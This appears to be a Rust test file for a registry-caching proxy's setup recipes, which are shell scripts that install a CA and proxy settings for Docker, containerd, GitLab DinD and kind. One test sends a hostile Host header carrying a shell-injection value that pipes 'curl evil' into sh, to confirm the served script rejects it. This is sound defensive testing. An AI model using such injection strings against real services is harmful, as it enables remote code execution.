//! The client setup recipes: what `pullcache setup <target>` prints and `GET /setup/<target>`
//! serves. The recipes are run against real daemons by `scripts/e2e-dockerd.sh`; here they are
//! checked as text and as shell: valid `sh`, shellcheck-clean (when shellcheck is installed),
//! filled in with the right proxy address and CA, and the REGISTRY-FACTS §5 traps handled.

mod common;

use std::path::Path;
use std::process::{Command, Output};

use pullcache::config::HostPort;
use pullcache::setup::{render, Params, ProxyUrl, Target};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use common::pullcache::{Flags, Pullcache};
use common::{within, SHORT};

const BIN: &str = env!("CARGO_BIN_EXE_pullcache");

/// A CA made the way `serve` makes it, in a temporary directory.
fn test_ca() -> (tempfile::TempDir, String) {
    let dir = tempfile::tempdir().unwrap();
    let ca = pullcache::ca::CertificateAuthority::load_or_create(dir.path()).unwrap();
    let pem = ca.cert_pem().to_string();
    (dir, pem)
}

fn params(pem: &str, proxy: &str) -> Params {
    Params::new(
        ProxyUrl::parse(proxy).unwrap(),
        pem,
        vec![HostPort::parse("registry-1.docker.io", Some(443)).unwrap()],
    )
    .unwrap()
}

fn run(cmd: &mut Command) -> Output {
    cmd.output().expect("spawn")
}

fn sh_syntax_ok(script: &str) -> Result<(), String> {
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("recipe.sh");
    std::fs::write(&f, script).unwrap();
    let out = run(Command::new("sh").arg("-n").arg(&f));
    if !out.status.success() {
        return Err(String::from_utf8_lossy(&out.stderr).into_owned());
    }
    // shellcheck is in the test tool set (scripts/test.sh installs it); skip quietly if absent.
    if let Ok(out) = Command::new("shellcheck")
        .args(["-s", "sh", "-S", "warning"])
        .arg(&f)
        .output()
    {
        if !out.status.success() {
            return Err(String::from_utf8_lossy(&out.stdout).into_owned());
        }
    }
    Ok(())
}

mod recipes {
    use super::*;

    #[test]
    fn every_recipe_is_valid_shell_with_this_proxy_and_ca() {
        let (_dir, pem) = test_ca();
        let p = params(&pem, "http://cache.ci.example:3128");
        let fingerprint = p.ca_fingerprint();
        for t in Target::ALL {
            let s = render(t, &p);
            sh_syntax_ok(&s).unwrap_or_else(|e| panic!("{}: {e}", t.name()));
            assert!(s.starts_with("#!/bin/sh\n"), "{}", t.name());
            assert!(
                s.contains("PROXY_URL='http://cache.ci.example:3128'"),
                "{}",
                t.name()
            );
            assert!(s.contains(&pem), "{}: CA not embedded verbatim", t.name());
            assert!(s.contains(&fingerprint), "{}", t.name());
            assert!(
                !s.contains("PRIVATE KEY-----"),
                "{}: a key in the recipe",
                t.name()
            );
            assert!(s.contains("# Undo:"), "{}: no undo steps", t.name());
        }
    }

    #[test]
    fn dockerd_trusts_the_system_store_and_is_restarted() {
        let (_dir, pem) = test_ca();
        let s = render(Target::DockerdSystemd, &params(&pem, "10.0.0.5:3128"));
        // Classic dockerd ignores certs.d for Docker Hub: the system store is what counts.
        assert!(s.contains("install_ca \"$CA_TMP\""));
        assert!(s.contains("update-ca-certificates"));
        assert!(s.contains("update-ca-trust"));
        // The containerd image store (Docker >= 29) reads certs.d/docker.io.
        assert!(s.contains("/etc/docker/certs.d/docker.io/pullcache-ca.crt"));
        assert!(s.contains("/etc/systemd/system/docker.service.d/pullcache.conf"));
        assert!(s.contains("Environment=\"HTTPS_PROXY=$PROXY_URL\""));
        assert!(s.contains("Environment=\"NO_PROXY=$NO_PROXY_LIST\""));
        assert!(s.contains("systemctl daemon-reload"));
        assert!(s.contains("systemctl restart docker"));
    }

    #[test]
    fn daemon_json_refuses_engines_older_than_23() {
        let (_dir, pem) = test_ca();
        let s = render(Target::DaemonJson, &params(&pem, "10.0.0.5:3128"));
        assert!(s.contains("\"$major\" -ge 23"));
        assert!(s.contains("\"https-proxy\""));
        assert!(s.contains("\"no-proxy\""));
        assert!(s.contains("restart_service docker"));
    }

    #[test]
    fn containerd_gets_hosts_toml_and_service_environment() {
        let (_dir, pem) = test_ca();
        let mut p = params(&pem, "10.0.0.5:3128");
        p.intercept
            .push(HostPort::parse("reg.example:5000", None).unwrap());
        let s = render(Target::Containerd, &p);
        assert!(s.contains("/etc/containerd/certs.d/docker.io/hosts.toml"));
        assert!(s.contains("server = \"https://registry-1.docker.io\""));
        assert!(s.contains("ca = \"/etc/containerd/certs.d/docker.io/pullcache-ca.crt\""));
        assert!(s.contains("/etc/containerd/certs.d/reg.example:5000/hosts.toml"));
        assert!(s.contains("server = \"https://reg.example:5000\""));
        assert!(s.contains("/etc/systemd/system/containerd.service.d/pullcache.conf"));
        assert!(s.contains("restart_service containerd"));
    }
}

mod gitlab_dind {
    use super::*;

    /// Runs the recipe as a non-root user would on a scratch path and returns what it prints.
    fn printed(proxy: &str) -> (String, String, String) {
        let (_dir, pem) = test_ca();
        let s = render(Target::GitlabDind, &params(&pem, proxy));
        let work = tempfile::tempdir().unwrap();
        let ca_path = work.path().join("runner-ca.crt");
        let out = run(Command::new("sh")
            .arg("-c")
            .arg(&s)
            .env("PULLCACHE_CA_PATH", &ca_path));
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let written = std::fs::read_to_string(&ca_path).unwrap();
        assert_eq!(written, pem, "the CA written for the runner");
        (
            String::from_utf8(out.stdout).unwrap(),
            String::from_utf8(out.stderr).unwrap(),
            ca_path.display().to_string(),
        )
    }

    #[test]
    fn the_job_cli_bypasses_the_proxy_for_the_docker_alias() {
        let (yaml, _, _) = printed("http://10.0.0.5:3128");
        assert!(yaml.contains("  HTTPS_PROXY: \"http://10.0.0.5:3128\"\n"));
        let no_proxy = yaml
            .lines()
            .find_map(|l| l.strip_prefix("  NO_PROXY: \""))
            .and_then(|l| l.strip_suffix('"'))
            .expect("NO_PROXY line");
        assert!(no_proxy.split(',').any(|h| h == "docker"), "{no_proxy}");
        assert!(yaml.contains("  DOCKER_HOST: \"tcp://docker:2376\"\n"));
        assert!(yaml.contains("alias: docker"));
    }

    #[test]
    fn the_ca_is_mounted_as_a_pem_in_etc_ssl_certs_and_in_certs_d() {
        let (out, _, ca_path) = printed("http://10.0.0.5:3128");
        assert!(
            out.contains(&format!(
                "\"{ca_path}:/etc/ssl/certs/pullcache-ca.pem:ro\","
            )),
            "{out}"
        );
        assert!(out.contains(&format!(
            "\"{ca_path}:/etc/docker/certs.d/docker.io/pullcache-ca.crt:ro\","
        )));
        // Variant B: the service's entrypoint writes the CA, then runs the stock entrypoint.
        assert!(out.contains("cat >/etc/ssl/certs/pullcache-ca.pem <<'PEM'"));
        assert!(out.contains("exec dockerd-entrypoint.sh \"$@\""));
    }

    #[test]
    fn a_loopback_proxy_address_is_called_out() {
        let (_, err, _) = printed("http://127.0.0.1:3128");
        assert!(err.contains("loopback"), "{err}");
    }
}

mod kind {
    use super::*;

    #[test]
    fn writes_the_ca_and_a_cluster_config_that_mounts_it() {
        let (_dir, pem) = test_ca();
        let s = render(Target::Kind, &params(&pem, "http://172.17.0.1:3128"));
        let work = tempfile::tempdir().unwrap();
        let out = run(Command::new("sh")
            .arg("-c")
            .arg(&s)
            .env("PULLCACHE_KIND_DIR", work.path())
            .env("PULLCACHE_KIND_CREATE", "0"));
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert_eq!(
            std::fs::read_to_string(work.path().join("ca.crt")).unwrap(),
            pem
        );
        let cfg = std::fs::read_to_string(work.path().join("kind-config.yaml")).unwrap();
        assert!(cfg.contains(&format!("hostPath: {}/ca.crt", work.path().display())));
        assert!(cfg.contains("containerPath: /etc/ssl/certs/pullcache-ca.pem"));
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(
            stdout.contains("HTTPS_PROXY='http://172.17.0.1:3128'"),
            "{stdout}"
        );
    }

    #[test]
    fn refuses_a_loopback_proxy() {
        let (_dir, pem) = test_ca();
        let s = render(Target::Kind, &params(&pem, "http://127.0.0.1:3128"));
        let work = tempfile::tempdir().unwrap();
        let out = run(Command::new("sh")
            .arg("-c")
            .arg(&s)
            .env("PULLCACHE_KIND_DIR", work.path())
            .env("PULLCACHE_KIND_CREATE", "0"));
        assert!(!out.status.success());
        assert!(String::from_utf8_lossy(&out.stderr).contains("loopback"));
        assert!(!work.path().join("kind-config.yaml").exists());
    }
}

mod cli {
    use super::*;

    #[test]
    fn prints_the_recipe_for_the_given_address() {
        let (dir, pem) = test_ca();
        let out = run(Command::new(BIN)
            .args(["setup", "dockerd-systemd", "--proxy-url", "cache.lan:3128"])
            .arg("--ca-dir")
            .arg(dir.path()));
        assert!(out.status.success(), "{out:?}");
        let expected = render(Target::DockerdSystemd, &params(&pem, "cache.lan:3128"));
        assert_eq!(String::from_utf8(out.stdout).unwrap(), expected);
    }

    #[test]
    fn without_a_target_lists_them_all() {
        let (dir, _) = test_ca();
        let out = run(Command::new(BIN)
            .args(["setup", "--proxy-url", "cache.lan:3128"])
            .arg("--ca-dir")
            .arg(dir.path()));
        assert!(out.status.success(), "{out:?}");
        let text = String::from_utf8(out.stdout).unwrap();
        for t in Target::ALL {
            assert!(
                text.contains(&format!(
                    "curl -fsS http://cache.lan:3128/setup/{} | sh",
                    t.name()
                )),
                "{text}"
            );
        }
    }

    #[test]
    fn a_missing_ca_is_a_usage_error_and_nothing_is_created() {
        let dir = tempfile::tempdir().unwrap();
        let ca_dir = dir.path().join("no-ca-here");
        let out = run(Command::new(BIN)
            .args(["setup", "kind", "--proxy-url", "cache.lan:3128"])
            .arg("--ca-dir")
            .arg(&ca_dir));
        assert_eq!(out.status.code(), Some(64), "{out:?}");
        assert!(String::from_utf8_lossy(&out.stderr).contains("ca.crt"));
        assert!(!Path::new(&ca_dir).exists(), "setup must not generate a CA");
    }

    #[test]
    fn an_https_proxy_url_is_refused() {
        let (dir, _) = test_ca();
        let out = run(Command::new(BIN)
            .args(["setup", "kind", "--proxy-url", "https://cache.lan:3128"])
            .arg("--ca-dir")
            .arg(dir.path()));
        assert_eq!(out.status.code(), Some(64), "{out:?}");
    }
}

mod served {
    use super::*;

    /// A plain HTTP/1.1 request to the proxy port; returns (status line, headers, body).
    async fn get(
        pc: &Pullcache,
        method: &str,
        path: &str,
        host: Option<&str>,
    ) -> (String, String, String) {
        let mut s = tokio::net::TcpStream::connect(pc.proxy_addr())
            .await
            .unwrap();
        let host_line = host.map(|h| format!("Host: {h}\r\n")).unwrap_or_default();
        let req = format!("{method} {path} HTTP/1.1\r\n{host_line}Connection: close\r\n\r\n");
        s.write_all(req.as_bytes()).await.unwrap();
        let mut buf = Vec::new();
        within(SHORT, "read response", s.read_to_end(&mut buf))
            .await
            .unwrap();
        let text = String::from_utf8(buf).unwrap();
        let (head, body) = text.split_once("\r\n\r\n").unwrap();
        let (status, headers) = head.split_once("\r\n").unwrap_or((head, ""));
        (
            status.to_string(),
            headers.to_ascii_lowercase(),
            body.to_string(),
        )
    }

    #[tokio::test]
    async fn get_setup_target_is_the_recipe_for_the_address_the_client_used() {
        let pc = Pullcache::start(Flags::new()).await;
        let (status, headers, body) = get(
            &pc,
            "GET",
            "/setup/dockerd-systemd",
            Some("cache.ci.example:3128"),
        )
        .await;
        assert!(status.contains(" 200 "), "{status}");
        assert!(
            headers.contains("content-type: text/x-shellscript"),
            "{headers}"
        );
        let expected = render(
            Target::DockerdSystemd,
            &params(&pc.ca_pem(), "http://cache.ci.example:3128"),
        );
        assert_eq!(body, expected);
        // Same bytes as the CLI prints for that address.
        let out = run(Command::new(BIN)
            .args([
                "setup",
                "dockerd-systemd",
                "--proxy-url",
                "http://cache.ci.example:3128",
            ])
            .arg("--ca-dir")
            .arg(pc.ca_dir()));
        assert_eq!(String::from_utf8(out.stdout).unwrap(), body);
        pc.shutdown().await;
    }

    #[tokio::test]
    async fn every_target_is_served_and_unknown_ones_are_404() {
        let pc = Pullcache::start(Flags::new()).await;
        for t in Target::ALL {
            let (status, _, body) = get(
                &pc,
                "GET",
                &format!("/setup/{}", t.name()),
                Some("proxy:3128"),
            )
            .await;
            assert!(status.contains(" 200 "), "{}: {status}", t.name());
            assert!(
                body.contains("PROXY_URL='http://proxy:3128'"),
                "{}",
                t.name()
            );
        }
        let (status, _, body) = get(&pc, "GET", "/setup", Some("proxy:3128")).await;
        assert!(status.contains(" 200 "), "{status}");
        assert!(
            body.contains("curl -fsS http://proxy:3128/setup/gitlab-dind | sh"),
            "{body}"
        );
        let (status, _, _) = get(&pc, "GET", "/setup/windows", Some("proxy:3128")).await;
        assert!(status.contains(" 404 "), "{status}");
        let (status, headers, body) = get(&pc, "HEAD", "/setup/kind", Some("proxy:3128")).await;
        assert!(status.contains(" 200 "), "{status}");
        assert!(headers.contains("text/x-shellscript"));
        assert!(body.is_empty());
        pc.shutdown().await;
    }

    #[tokio::test]
    async fn a_hostile_host_header_cannot_reach_the_script() {
        let pc = Pullcache::start(Flags::new()).await;
        let (status, _, body) = get(
            &pc,
            "GET",
            "/setup/dockerd-systemd",
            Some("x';curl evil|sh;'"),
        )
        .await;
        // hyper may refuse the header outright; if it is accepted, the listen address is used.
        if status.contains(" 200 ") {
            assert!(!body.contains("evil"), "{body}");
            assert!(body.contains("PROXY_URL='http://127.0.0.1:"), "{body}");
        } else {
            assert!(status.contains(" 400 "), "{status}");
        }
        pc.shutdown().await;
    }
}
